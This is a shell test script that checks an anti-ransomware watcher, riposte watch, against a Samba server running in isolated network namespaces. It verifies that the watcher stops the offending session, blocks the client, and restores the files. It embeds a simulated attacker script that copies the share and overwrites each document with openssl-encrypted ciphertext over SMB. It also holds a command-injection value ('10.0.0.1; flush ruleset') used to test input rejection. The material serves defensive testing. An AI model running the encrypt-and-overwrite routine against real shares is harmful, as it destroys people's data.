#!/bin/sh
# serial: counts what happens within milliseconds (tests/run.sh runs it alone)
# riposte watch against a real Samba server (Debian's smbd), attacked over SMB by a
# client that encrypts the share's documents with smbclient and openssl.
#
# Everything lives in this test's temp dir and in namespaces it makes: a network
# namespace for the server (smbd, riposte watch, smbstatus) and one for the client
# (smbclient), joined by a veth pair (10.203.1.1 <-> 10.203.1.2, fd03:203::1 <->
# fd03:203::2); the server side also gets a private mount namespace where /etc/passwd
# and /etc/group are bind-mounted copies that add the test's user, so the host's files
# are never changed. smbd runs
# with a private smb.conf (its own private, lock, state, cache, pid dirs and passdb,
# port 4445, bound to the namespace's addresses only). The host's nftables ruleset is
# compared before and after.
# Runs: 1. --action stop: only the attacking session's smbd is stopped, the server keeps
# serving; 2. --block-client: the client's IPv4 address is dropped, the server's own
# address still gets in; 3. an IPv6 client while that block is in force. After each,
# --restore brings every document back byte-exact.
TMPDIR=${WATCH_TMPDIR:-/var/tmp}
. "$TOP/tests/lib.sh"
. "$TOP/tests/e2e/watch.inc"

"$RIPOSTE" watch --check "$T" >/dev/null 2>&1
[ $? -eq 2 ] && skip "no fanotify permission events here ($(uname -r))"
for tool in smbd smbclient smbpasswd smbstatus nft openssl unshare nsenter ip python3; do
	command -v $tool >/dev/null || { fail "$tool missing (scripts/packages.d/samba.txt)"; done_testing; }
done

S=rp-smbsrv-$$ C=rp-smbcli-$$
SRVIP=10.203.1.1 CLIIP=10.203.1.2 SRV6=fd03:203::1 CLI6=fd03:203::2 PORT=4445 USR=anna PASS=Praxis-2026
HOLD=""
cleanup() {
	# only processes this test started live in its namespaces (smbd, the watcher, the
	# mount namespace's holder, smbclient); a stopped smbd dies of SIGKILL too
	for ns in "$S" "$C"; do
		for p in $(ip netns pids "$ns" 2>/dev/null); do kill -KILL "$p" 2>/dev/null; done
	done
	[ -n "$HOLD" ] && kill -KILL "$HOLD" 2>/dev/null
	ip netns del "$S" 2>/dev/null
	ip netns del "$C" 2>/dev/null
}
trap 'cleanup; chmod -R u+rwx "$T" 2>/dev/null; rm -rf "$T"' EXIT
trap 'exit 2' INT TERM HUP

nft list ruleset >"$T/host-nft.before" 2>&1
ip netns add "$S" && ip netns add "$C" || { fail "ip netns add"; done_testing; }
ip -n "$S" link add eth0 type veth peer name eth0 netns "$C"
for ns in "$S" "$C"; do ip -n "$ns" link set lo up; done
ip -n "$S" addr add "$SRVIP/24" dev eth0
ip -n "$C" addr add "$CLIIP/24" dev eth0
ip -n "$S" addr add "$SRV6/64" dev eth0 nodad
ip -n "$C" addr add "$CLI6/64" dev eth0 nodad
ip -n "$S" link set eth0 up
ip -n "$C" link set eth0 up

# the test's user, in copies of passwd and group seen only in the server's namespaces
uid=20123
while getent passwd "$uid" >/dev/null || getent group "$uid" >/dev/null; do uid=$((uid + 1)); done
cp /etc/passwd "$T/passwd" && cp /etc/group "$T/group" || fail "copy passwd"
echo "$USR:x:$uid:$uid:riposte test:/nonexistent:/usr/sbin/nologin" >>"$T/passwd"
echo "$USR:x:$uid:" >>"$T/group"
unshare --mount --propagation private sh -c "mount --bind '$T/passwd' /etc/passwd &&
    mount --bind '$T/group' /etc/group && exec ip netns exec '$S' sleep 3600" &
HOLD=$!
i=0
until [ "$(readlink "/proc/$HOLD/ns/net")" = "$(ip netns exec "$S" readlink /proc/self/ns/net)" ]; do
	i=$((i + 1)); [ $i -gt 50 ] && { fail "server namespace holder"; done_testing; }
	sleep 0.1
done
srv() { nsenter -t "$HOLD" -m -n "$@"; }
cli() { ip netns exec "$C" "$@"; }
expect_eq "the user exists on the server side only" "$USR" "$(srv id -un "$uid" 2>&1)"

# the session's smbd runs as the user: it must traverse $T (mktemp made it 0700)
chmod 711 "$T"
mkdir -p "$T/share"
. "$TOP/tests/e2e/samba.inc"
{ samba_conf "$T" "$PORT" "$SRVIP/24 $SRV6/64" && cat <<EOF; } >"$T/smb.conf" || fail "smb.conf"
	workgroup = RIPOSTE
	obey pam restrictions = no
[share]
	path = $T/share
	read only = no
EOF
printf '%s\n%s\n' "$PASS" "$PASS" | srv smbpasswd -c "$T/smb.conf" -s -a "$USR" >"$T/smbpasswd.out" 2>&1 ||
    fail "smbpasswd -a: $(cat "$T/smbpasswd.out")"
expect_eq "the Samba user is in the private passdb" "$USR:$uid:riposte test" \
    "$(srv pdbedit -s "$T/smb.conf" -L 2>/dev/null)"

nsenter -t "$HOLD" -m -n smbd -F --no-process-group -s "$T/smb.conf" --debug-stdout -d1 \
    >"$T/smbd.out" 2>&1 &
SMBD=$!
i=0
until [ "$(ip netns exec "$S" ss -ltnH "sport = :$PORT" | wc -l)" -eq 2 ]; do
	i=$((i + 1)); [ $i -gt 100 ] && { fail "smbd does not listen"; cat "$T/smbd.out"; done_testing; }
	sleep 0.1
done
expect_eq "smbd listens on the namespace's addresses only" "$SRVIP:$PORT [$SRV6]:$PORT" \
    "$(ip netns exec "$S" ss -ltnH | awk '{print $4}' | sort | tr '\n' ' ' | sed 's/ $//')"
ip netns exec "$S" ss -ltnH >"$T/listen"

# smb srv|cli|cli6 COMMANDS [SECONDS]: one session to the server's address, from the
# server's namespace or the client's, over IPv6 for cli6 (at most SECONDS, default 10)
smb() {
	addr=$SRVIP
	case $1 in
	srv) set -- "$2" "${3:-10}" nsenter -t "$HOLD" -m -n ;;
	cli6) addr=$SRV6; set -- "$2" "${3:-10}" ip netns exec "$C" ;;
	*) set -- "$2" "${3:-10}" ip netns exec "$C" ;;
	esac
	cmds=$1 secs=$2
	shift 2
	timeout "$secs" "$@" smbclient "//$addr/share" -p "$PORT" -U "$USR%$PASS" -t 2 -c "$cmds"
}

# the attacker: copies the documents, encrypts them locally (AES-256-CTR, no header),
# then in ONE session reads each document again and writes the ciphertext over it
cat >"$T/attack.sh" <<'EOF'
srv=$1 port=$2 cred=$3 work=$4
shift 4
mkdir -p "$work/loot" && cd "$work/loot" || exit 2
smbclient "//$srv/share" -p "$port" -U "$cred" -c "recurse on; prompt off; mget *" \
    >"$work/mget.out" 2>&1 || exit 1
cmds=""
for f; do
	openssl enc -aes-256-ctr -nosalt -K "$(printf '%064d' 7)" -iv "$(printf '%032d' 1)" \
	    -in "$f" -out "$f.enc" || exit 1
	r=$(printf '%s' "$f" | tr / '\\\\')
	cmds="$cmds${cmds:+; }get $r /dev/null; put $f.enc $r"
done
exec smbclient "//$srv/share" -p "$port" -U "$cred" -t 30 -c "$cmds"
EOF

# the watcher runs on the server side: a wrapper keeps watch.inc's helpers usable
RIPOSTE_BIN=$RIPOSTE
cat >"$T/riposte-srv" <<EOF
#!/bin/sh
exec nsenter -t $HOLD -m -n "$RIPOSTE_BIN" "\$@"
EOF
chmod +x "$T/riposte-srv"

# json KEY FILE: the value of "KEY" in the first alert of FILE
json() { grep '"kind":"alert"' "$2" | head -n 1 | sed -n "s/.*\"$1\":\(\"[^\"]*\"\|[^,}]*\).*/\1/p"; }

# run NAME SERVER-ADDR CLIENT-ADDR [watch options]: documents, watcher, the attack
# from the client to SERVER-ADDR; the alert must name CLIENT-ADDR
run() {
	name=$1 to=$2 from=$3
	shift 3
	via=cli
	[ "$to" = "$SRV6" ] && via=cli6
	rm -rf "$T/share"/* "$T/client-$name"
	make_docs "$T/share" 9
	chown -R "$uid:$uid" "$T/share"
	sums "$T/share" >"$T/$name.before"
	files=$(cd "$T/share" && find . -type f | sed 's|^\./||' | sort)
	expect_eq "$name: the client lists the share before" 9 \
	    "$(smb "$via" "recurse on; ls" 2>/dev/null | grep -c '\.txt ')"
	RIPOSTE=$T/riposte-srv
	watch_start "$name" "$T/share" "$@"
	RIPOSTE=$RIPOSTE_BIN
	[ -n "$WPID" ] || return 1
	# shellcheck disable=SC2086
	cli sh "$T/attack.sh" "$to" "$PORT" "$USR%$PASS" "$T/client-$name" $files \
	    >"$T/$name.attack" 2>&1 &
	APID=$!
	wait_attack "$APID"
	sums "$T/share" >"$T/$name.after"
	expect_grep "$name: alert" '"kind":"alert"' "$WOUT" || sed 's/^/    /' "$T/$name.attack"
	grep '"kind":"alert"' "$WOUT" | head -n 1 >"$T/$name.alert"
	SESS=$(json pid "$WOUT")
	case $(json exe "$WOUT") in
	*/smbd\") ok "$name: exe is smbd" ;;
	*) fail "$name: exe $(json exe "$WOUT")" ;;
	esac
	expect_eq "$name: client is the client's address" "\"$from\"" "$(json client "$WOUT")"
	expect_eq "$name: user is the Samba user" "\"$USR\"" "$(json user "$WOUT")"
	expect_eq "$name: result" '"stopped"' "$(json result "$WOUT")"
	touched=$(json files_touched "$WOUT")
	if [ "${touched:-0}" -ge 1 ] && [ "$touched" -le 3 ]; then ok "$name: files_touched $touched"; else
		fail "$name: files_touched '$touched'"; cat "$WOUT"; fi
	n=$(changed "$T/$name.before" "$T/$name.after")
	if [ "$n" -ge 1 ] && [ "$n" -le 3 ]; then ok "$name: $n file(s) changed on disk"; else
		fail "$name: $n files changed on disk"; fi
	# the session's smbd is stopped, the others (the parent, notifyd, cleanupd) are not
	wait_proc "$SESS"
	expect_eq "$name: the session's smbd ($SESS) is stopped" T "$PSTATE"
	expect_eq "$name: it was a child of the smbd started here" "$SMBD" \
	    "$(awk '/^PPid:/ {print $2}' "/proc/$SESS/status" 2>/dev/null)"
	others=""
	for p in $(ip netns pids "$S"); do
		[ "$p" = "$SESS" ] && continue
		case $(cat "/proc/$p/comm" 2>/dev/null) in smbd*|cleanupd)
			others="$others $(cat "/proc/$p/comm"):$(sed -n 's/^State:[[:space:]]*\(.\).*/\1/p' "/proc/$p/status")" ;;
		esac
	done
	case $others in
	*:T*|"") fail "$name: other smbd processes:$others" ;;
	*) ok "$name: the other smbd processes run:$others" ;;
	esac
	sleep 0.5
	sums "$T/share" >"$T/$name.later"
	if cmp -s "$T/$name.after" "$T/$name.later"; then ok "$name: attack halted"; else
		fail "$name: files still changing after the alert"; fi
}

# finish NAME: the attacker's client and the stopped session go, the watcher stops,
# --restore brings every file back byte-exact
finish() {
	name=$1
	kill -KILL "$APID" 2>/dev/null
	wait "$APID" 2>/dev/null
	kill -KILL "$SESS" 2>/dev/null
	watch_stop
	expect_eq "$name: watcher exit 1 (alert)" 1 "$WST"
	expect_exit "$name: restore" 0 srv "$RIPOSTE" watch --restore --format jsonl \
	    --shadow "$T/shadow-$name" "$T/share"
	cp "$T/.out" "$T/$name.restore"
	sums "$T/share" >"$T/$name.restored"
	if cmp -s "$T/$name.before" "$T/$name.restored"; then ok "$name: every file restored byte-exact"; else
		fail "$name: not all restored"; diff "$T/$name.before" "$T/$name.restored" | head; cat "$T/$name.restore"; fi
}

# 1. stop only: the session is stopped, the server goes on serving, even that client
run stop "$SRVIP" "$CLIIP" --action stop
expect_eq "stop: not blocked" false "$(json blocked "$WOUT")"
expect_exit "stop: no table inet riposte_watch" 1 ip netns exec "$S" nft list table inet riposte_watch
# (1 run in about 16 once failed here with smbclient's exit 1, never reproduced in 42
# runs since, 12 of them under load: if it fails, say what every smbd was doing)
expect_exit "stop: the parent smbd serves a new session from the same client" 0 \
    smb cli ls || {
	for p in $(ip netns pids "$S"); do
		echo "  pid $p $(cat "/proc/$p/comm" 2>/dev/null) $(grep '^State' "/proc/$p/status" 2>/dev/null)" \
		    "wchan $(cat "/proc/$p/wchan" 2>/dev/null) syscall $(cut -d' ' -f1 "/proc/$p/syscall" 2>/dev/null)"
	done
	srv smbstatus -s "$T/smb.conf" -L 2>&1 | sed 's/^/  locks: /' | head -n 20
	tail -n 20 "$T/smbd.out" | sed 's/^/  smbd log: /'
}
finish stop

# 2. --block-client: a drop for exactly the client's address, in our table only
run block "$SRVIP" "$CLIIP" --action stop --block-client
expect_eq "block: blocked" true "$(json blocked "$WOUT")"
ip netns exec "$S" nft list table inet riposte_watch >"$T/block.nft" 2>&1
expect_grep "block: the drop rule" 'ip saddr @clients4 drop' "$T/block.nft"
expect_eq "block: exactly the client's address is in the set" "$CLIIP" \
    "$(sed -n 's/.*elements = { \(.*\) }.*/\1/p' "$T/block.nft" | tr '\n' ' ' | sed 's/ $//')"
expect_eq "block: the server namespace has only our table" "table inet riposte_watch" \
    "$(ip netns exec "$S" nft list tables)"
expect_exit "block: a new connection from the client fails" 124 smb cli ls 3
expect_exit "block: one from the server's own address still works" 0 smb srv ls
finish block
expect_exit "block: the client is still blocked after the watcher stopped" 124 smb cli ls 3

# 3. an IPv6 client, while the IPv4 block is in force: the same table gets its address
run block6 "$SRV6" "$CLI6" --block-client
expect_eq "block6: blocked" true "$(json blocked "$WOUT")"
ip netns exec "$S" nft list table inet riposte_watch >"$T/block6.nft" 2>&1
expect_grep "block6: the IPv6 drop rule" 'ip6 saddr @clients6 drop' "$T/block6.nft"
expect_eq "block6: both addresses, each in its set, once" "$CLIIP $CLI6" \
    "$(sed -n 's/.*elements = { \(.*\) }.*/\1/p' "$T/block6.nft" | tr '\n' ' ' | sed 's/ $//')"
expect_eq "block6: the two rules are there once" 2 "$(grep -c 'saddr @clients. drop' "$T/block6.nft")"
expect_exit "block6: a new IPv6 connection from the client fails" 124 smb cli6 ls 3
finish block6

# 4. --unblock: the IPv4 client back in, the IPv6 one still out; then all
ip netns exec "$S" "$RIPOSTE" watch --unblock "$CLIIP" >"$T/unblock.out" 2>&1
expect_eq "unblock: exit 0" 0 $?
expect_grep "unblock: said" "unblocked $CLIIP" "$T/unblock.out"
expect_exit "unblock: the IPv4 client connects again" 0 smb cli ls
expect_exit "unblock: the IPv6 client is still out" 124 smb cli6 ls 3
ip netns exec "$S" "$RIPOSTE" watch --unblock "$CLIIP" >"$T/unblock2.out" 2>&1
expect_eq "unblock: again: exit 1 (not blocked)" 1 $?
expect_grep "unblock: again: said" "was not blocked" "$T/unblock2.out"
ip netns exec "$S" "$RIPOSTE" watch --unblock "$CLIIP" --format jsonl >"$T/unblock2.jsonl" 2>&1
expect_eq "unblock: jsonl" "{\"kind\":\"unblock\",\"address\":\"$CLIIP\",\"result\":\"not-blocked\"}" \
    "$(cat "$T/unblock2.jsonl")"
ip netns exec "$S" "$RIPOSTE" watch --unblock "10.0.0.1; flush ruleset" >"$T/unblock3.out" 2>&1
expect_eq "unblock: not an address: exit 2" 2 $?
ip netns exec "$S" "$RIPOSTE" watch --unblock all >>"$T/unblock.out" 2>&1
expect_eq "unblock all: exit 0" 0 $?
expect_grep "unblock all: said" "unblocked every client: table inet riposte_watch deleted" "$T/unblock.out"
expect_exit "unblock all: the IPv6 client connects again" 0 smb cli6 ls
expect_exit "unblock all: our table is gone" 1 ip netns exec "$S" nft list table inet riposte_watch
ip netns exec "$S" "$RIPOSTE" watch --unblock all --format jsonl >"$T/unblock4.jsonl" 2>&1
expect_eq "unblock all: again: exit 1" 1 $?
expect_eq "unblock all: again: jsonl" '{"kind":"unblock","address":"all","result":"not-blocked"}' \
    "$(cat "$T/unblock4.jsonl")"

# what the user sees (for the tour)
sed 's/^/    /' "$T/block.alert" "$T/block.nft" "$T/unblock.out"
cleanup
HOLD=""
nft list ruleset >"$T/host-nft.after" 2>&1
if cmp -s "$T/host-nft.before" "$T/host-nft.after"; then ok "the host's nftables ruleset is unchanged"; else
	fail "the host's ruleset changed"; diff "$T/host-nft.before" "$T/host-nft.after" | head; fi
done_testing
